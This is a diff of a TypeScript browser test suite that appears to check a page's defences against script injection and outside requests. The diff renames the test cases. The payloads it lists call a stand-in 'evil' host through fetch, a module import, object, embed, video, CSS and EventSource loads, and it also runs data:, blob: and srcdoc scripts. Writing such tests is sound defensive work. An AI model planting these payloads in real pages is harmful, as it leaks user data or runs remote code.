@@ -61,9 +61,9 @@ const attacks: Attack[] = [
     act: (page) => page.evaluate((evil) => fetch(`${evil}/data`, { mode: 'no-cors' }).catch(() => {}), evil),
     hasActed: hasAsked,
   },
-  { name: 'a script in a data: address', html: '<script src="data:,window.hacked=true"></script>', hasActed: hasRun },
+  { name: 'a script in a data: URL', html: '<script src="data:,window.hacked=true"></script>', hasActed: hasRun },
   {
-    name: 'a script in a blob: address',
+    name: 'a script in a blob: URL',
     html: '',
     act: (page) => run(page, "addScript(URL.createObjectURL(new Blob(['window.hacked = true'])))"),
     hasActed: hasRun,
@@ -88,7 +88,7 @@ const attacks: Attack[] = [
   },
   { name: 'a module of another host', html: '', act: (page) => run(page, `import('${evil}/x.js')`), hasActed: hasRun },
   {
-    name: 'a worker in a blob: address',
+    name: 'a worker in a blob: URL',
     html: '',
     act: (page) =>
       run(
@@ -98,7 +98,7 @@ const attacks: Attack[] = [
     hasActed: hasRun,
   },
   {
-    name: 'a frame that holds its own markup',
+    name: 'a frame with srcdoc',
     html: '<iframe srcdoc="&lt;script>parent.hacked = true&lt;/script>"></iframe>',
     hasActed: hasRun,
   },
@@ -117,9 +117,9 @@ const attacks: Attack[] = [
   { name: 'an object', html: `<object data="${evil}/frame"></object>`, hasActed: hasAsked },
   { name: 'an embed', html: `<embed src="${evil}/frame">`, hasActed: hasAsked },
   { name: 'a video', html: `<video src="${evil}/video" autoplay muted></video>`, hasActed: hasAsked },
-  { name: 'the picture of a video', html: `<video poster="${evil}/pixel.png"></video>`, hasActed: hasAsked },
+  { name: 'the poster of a video', html: `<video poster="${evil}/pixel.png"></video>`, hasActed: hasAsked },
   { name: 'a picture in an SVG', html: `<svg><image href="${evil}/pixel.png"/></svg>`, hasActed: hasAsked },
-  { name: 'a picture as a button', html: `<input type="image" src="${evil}/pixel.png" alt="">`, hasActed: hasAsked },
+  { name: 'an image button', html: `<input type="image" src="${evil}/pixel.png" alt="">`, hasActed: hasAsked },
   {
     name: 'a picture in a style attribute',
     html: `<p style="background: url(${evil}/pixel.png)">x</p>`,
@@ -130,9 +130,9 @@ const attacks: Attack[] = [
     html: `<style>body { background: url(${evil}/pixel.png) }</style>`,
     hasActed: hasAsked,
   },
-  { name: 'something loaded ahead', html: `<link rel="preload" as="image" href="${evil}/x.png">`, hasActed: hasAsked },
+  { name: 'a preload link', html: `<link rel="preload" as="image" href="${evil}/x.png">`, hasActed: hasAsked },
   {
-    name: 'a stream of events',
+    name: 'an event stream',
     html: '',
     act: (page) => run(page, `new Promise((done) => { new EventSource('${evil}/data').onerror = done })`),
     hasActed: hasAsked,
